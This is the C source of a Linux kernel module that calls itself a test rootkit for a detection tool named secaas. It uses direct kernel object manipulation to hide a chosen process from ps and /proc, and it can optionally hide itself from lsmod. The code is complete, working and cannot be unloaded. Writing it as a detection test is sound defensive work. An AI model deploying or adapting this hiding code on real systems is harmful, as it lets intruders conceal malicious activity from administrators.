// SPDX-License-Identifier: GPL-2.0
/*
 * secaas_dkom: a test rootkit for secaas's hidden-process and hidden-module
 * detection. It uses direct kernel object manipulation (DKOM), as real
 * rootkits do:
 *
 *   insmod secaas_dkom.ko pid=N        unlink task N from the task list
 *                                       (init_task.tasks) and from its pid
 *                                       (so /proc, and ps, no longer see it)
 *   insmod secaas_dkom.ko pid=N hide_module=1
 *                                       also unlink this module from the
 *                                       module list (lsmod no longer sees it)
 *
 * The unlinked list nodes are left pointing at themselves, so that the
 * process may still exit without oopsing the guest. The module has no exit
 * function: it cannot be unloaded. Build it only for test guests.
 */
#include <linux/module.h>
#include <linux/pid.h>
#include <linux/rculist.h>
#include <linux/sched.h>

static int pid;
module_param(pid, int, 0);
MODULE_PARM_DESC(pid, "pid of the process to hide");
static int hide_module;
module_param(hide_module, int, 0);
MODULE_PARM_DESC(hide_module, "also hide this module from the module list");

static void unhash(struct hlist_node *n)
{
	hlist_del_rcu(n);
	/* A self-contained node: a later hlist_del at exit writes only here. */
	n->next = NULL;
	n->pprev = &n->next;
}

static int __init dkom_init(void)
{
	struct task_struct *t;

	rcu_read_lock();
	t = pid_task(find_vpid(pid), PIDTYPE_PID);
	if (!t) {
		rcu_read_unlock();
		pr_err("secaas_dkom: no task with pid %d\n", pid);
		return -ESRCH;
	}
	list_del_rcu(&t->tasks);
	INIT_LIST_HEAD(&t->tasks);
	unhash(&t->pid_links[PIDTYPE_PID]);
	if (t->pid_links[PIDTYPE_TGID].pprev)
		unhash(&t->pid_links[PIDTYPE_TGID]);
	rcu_read_unlock();
	if (hide_module) {
		list_del_rcu(&THIS_MODULE->list);
		INIT_LIST_HEAD(&THIS_MODULE->list);
	}
	pr_info("secaas_dkom: hid pid %d%s\n", pid, hide_module ? " and itself" : "");
	return 0;
}
module_init(dkom_init);

MODULE_LICENSE("GPL");
MODULE_DESCRIPTION("secaas test rootkit (DKOM): hides a process, optionally itself");
